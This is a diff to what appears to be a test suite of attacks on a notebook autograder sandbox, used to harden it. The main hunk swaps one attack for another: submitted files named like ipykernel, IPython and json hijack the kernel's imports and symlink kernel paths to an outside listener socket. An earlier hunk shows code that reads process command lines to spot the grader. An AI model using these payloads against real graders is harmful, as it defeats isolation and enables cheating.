@@ -31,7 +31,6 @@ def looks_for_the_grader(it: Submission) -> None:
                 commands.append(open(path).read())
             except OSError:
                 pass
-        kernels = [c for c in commands if "ipykernel" in c and not c.startswith("/usr/bin/bwrap")]
         if len(commands) > 6 or any("hostile" in c or "nbgrader" in c for c in commands):
             print("GOT" + "-THROUGH", commands)
         """)
@@ -159,24 +158,17 @@ def talks_to_unix_sockets(it: Submission) -> None:
         """)
 
 
-@attack("the link is not followed; no score, or the same", score=4.0)
-def lures_the_grader_to_another_socket(it: Submission) -> None:
-    """Runs before its kernel does, and puts a link to a socket outside in the kernel's place."""
-    it.add_file(
-        "ipykernel_launcher.py",
-        f"""
-        import os, sys
-        for port in range(1, 6):
-            try:
-                os.symlink("/tmp/{LISTENER}.sock", f"/run/kernel-{{port}}")
-            except OSError:
-                pass
-        sys.path.pop(0)
-        del sys.modules["__main__"]
-        import runpy
-        runpy.run_module("ipykernel_launcher", run_name="__main__")
-        """,
-    )
+@attack("no file of its own stands in for the kernel; same score")
+def lures_the_kernel_to_its_own_files(it: Submission) -> None:
+    """Submits files named like what the kernel imports, and links it to a socket outside."""
+    hijack = f"""
+        import os
+        os.symlink("/tmp/{LISTENER}.sock", "/run/kernel")
+        print("GOT" + "-THROUGH")
+        raise SystemExit
+        """
+    for name in ("_course_kernel/__init__", "ipykernel/__init__", "IPython/__init__", "json"):
+        it.add_file(f"{name}.py", hijack)
 
 
 @attack("it cannot be downloaded; same score", stock=True)
